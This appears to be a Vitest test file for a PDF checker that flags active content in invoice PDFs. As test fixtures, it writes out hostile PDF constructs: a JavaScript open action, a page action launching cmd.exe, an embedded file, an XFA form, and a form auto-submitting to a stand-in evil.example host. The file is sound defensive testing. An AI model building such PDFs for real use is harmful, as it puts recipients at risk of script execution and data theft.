import { describe, expect, it } from 'vitest';
import {
  ENCRYPTED_PDF,
  ESCAPED_SCRIPT_PDF,
  INERT_PDF,
  LINK_PDF,
  SCRIPTED_PDF,
  objectStreamPdf,
  pdfOf,
  pdfWithUnluckyImage,
} from '../../test/pdfs.js';
import { PDF } from '../../test/catalog-support.js';
import { checkPdf } from './pdf-check.js';

describe('invoice PDFs must be documents, not programs (issue 7)', () => {
  it.each([
    ['the minimal test PDF', PDF],
    ['a one-page PDF', INERT_PDF],
    ['a PDF with a link to a web page', LINK_PDF],
    ['a PDF whose image bytes spell /JS by chance', pdfWithUnluckyImage()],
    ['a PDF whose object stream holds only a page', objectStreamPdf('<< /Type /Page /Parent 2 0 R >>')],
  ])('accepts %s', (_case, pdf) => {
    expect(checkPdf(pdf)).toBe('inert');
  });

  it.each([
    ['a script run on opening', SCRIPTED_PDF],
    ['the same with hex-escaped names', ESCAPED_SCRIPT_PDF],
    [
      'a script inside a compressed object stream',
      objectStreamPdf('<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>'),
    ],
    [
      'a program launched from a page action',
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /AA << /O << /S /Launch /F (cmd.exe) >> >> >>',
      ]),
    ],
    [
      'an embedded file',
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>',
        '<< /Type /Pages /Kids [] /Count 0 >>',
        '<< >>',
        '<< /Names [] >>',
      ]),
    ],
    ['an XFA form', pdfOf(['<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>', '<< >>'])],
    [
      'a form that submits itself',
      pdfOf(['<< /Type /Catalog /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>']),
    ],
  ])('refuses %s as active', (_case, pdf) => {
    expect(checkPdf(pdf)).toBe('active');
  });

  it.each([
    ['an encrypted PDF', ENCRYPTED_PDF],
    ['an object stream under another filter', objectStreamPdf('<< /S /JavaScript >>', 'lzw')],
    [
      'a corrupt object stream',
      pdfOf(['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4 >>\nstream\nnope\nendstream']),
    ],
  ])('refuses %s as uncheckable', (_case, pdf) => {
    expect(checkPdf(pdf)).toBe('uncheckable');
  });
});
